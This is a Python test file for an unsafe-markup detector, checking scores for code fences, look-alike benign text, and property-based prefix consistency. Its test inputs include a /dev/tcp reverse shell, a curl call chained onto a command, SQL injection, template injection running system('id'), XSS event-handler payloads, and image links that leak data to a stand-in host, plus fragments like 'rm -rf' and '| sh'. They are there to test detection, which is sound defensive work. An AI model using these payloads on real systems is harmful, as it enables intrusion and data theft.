import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from guard_samples import told
from keelmark.guard.contract import last_token
from keelmark.guard.detectors.unsafe_markup import Detector, Settings


def scores(text: str, config: Settings | None = None) -> list[tuple[str, float]]:
    return [(hit.label, hit.score) for hit in Detector(config).find(text)]


def test_code_counts_less_until_its_fence_closes() -> None:
    text = "```html\n<script>\n~~~\n```\n<script>\n~~~\n<script>\n"
    assert [score for _, score in scores(text)] == [0.3, 0.9, 0.3]
    assert [score for _, score in scores(text, Settings(code="same"))] == [0.9] * 3


def test_one_backtick_hides_nothing() -> None:
    assert scores("a ` <script>\n") == [("SCRIPT", 0.9)]
    assert scores("a `<script>` b") == [("SCRIPT", 0.3)]


def test_a_fence_that_has_left_is_remembered() -> None:
    block = "```\n" + "x = 1\n" * 60
    own = told(Detector(), block, len(block))
    assert [hit.score for hit in own.find("<script>")] == [0.3]
    own.passed("```\n")
    assert [hit.score for hit in own.find("<script>")] == [0.9]


@pytest.mark.parametrize(
    "text",
    [
        '<a title="' + "y" * 100 + '" onclick="go()">',
        "![a](https://e.example/?d=<CARD_2>)",
        '<img src="https://e.example/?d=616363657373206b65792069733a20616263">',
        "[1]: https://e.example/x?to=jane%40example.org",
        "admin'--",
        "1' UNION ALL SELECT name FROM users",
        "x && curl http://e.example/a",
        "bash -i >& /dev/tcp/203.0.114.9/443 0>&1",
        "{{ request.application }} ${T(java.lang.Runtime)} <%= system('id') %>",
        "<meta http-equiv='refresh' content=0>",
        "<svg><animate onbegin=alert(1)>",
    ],
)
def test_found(text: str) -> None:
    assert max(score for _, score in scores(text)) >= 0.6


@pytest.mark.parametrize(
    "text",
    [
        "SELECT name FROM users WHERE id = 1 OR id = 2;",
        "It's 'this' or 'that' and nothing else; drop me a line.",
        "![badge](https://img.example/a/build-passing-green.svg?style=flat&v=20240101)",
        "Install with `pip install x | tee log` and run it.",
        "a <b> c </b> <table border=1> <a href='https://a.example/x'>x</a>",
        "Use {{ user.name }} and ${HOME}/bin, #{i}, {% if a %}b{% endif %}",
        "on load = 5, on click: none",
    ],
)
def test_look_alikes(text: str) -> None:
    assert [one for one in scores(text) if one[1] >= 0.5] == []


PIECES = [
    *(
        "```\n",
        "~~~\n",
        "`",
        "\n",
        " ",
        "<script>",
        "<",
        "on",
        "onload",
        " =x",
        "=",
        "](",
        "![a](",
        "'",
    ),
    *(
        "javascript:",
        "j\nava",
        "java\tscript:",
        "//a.b/?q=",
        "https://",
        "<EMAIL_1>",
        "' or ",
        "1=1",
    ),
    *(
        "'; drop table ",
        "; rm -rf",
        "| sh",
        "{{",
        "7*7",
        "}}",
        "${",
        "jndi:",
        "&#106;",
        "data :text/html",
    ),
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_any_mixture_keeps_the_law(text: str) -> None:
    detector = Detector()
    whole = list(detector.find(text))
    for end in range(len(text) + 1):
        prefix = text[:end]
        limit = detector.open_from(prefix)
        decided = [hit for hit in detector.find(prefix) if hit.start < limit]
        assert decided == [hit for hit in whole if hit.start < limit], (prefix, limit)
        if not any(hit.start < end < hit.end for hit in whole):
            low = max(0, end - 96)
            own = told(detector, text, end)
            moved = [
                replace(hit, start=hit.start + low, end=hit.end + low)
                for hit in own.find(text[low:], end - low)
            ]
            assert moved == [hit for hit in whole if hit.start >= end], (text, end)
    for start, end in itertools.pairwise(sorted({0, len(text) // 3, len(text) // 2, len(text)})):
        if told(detector, text, start).quiet(text[:end], start):
            assert not [h for h in whole if start <= h.start < last_token(text[:end], start)]
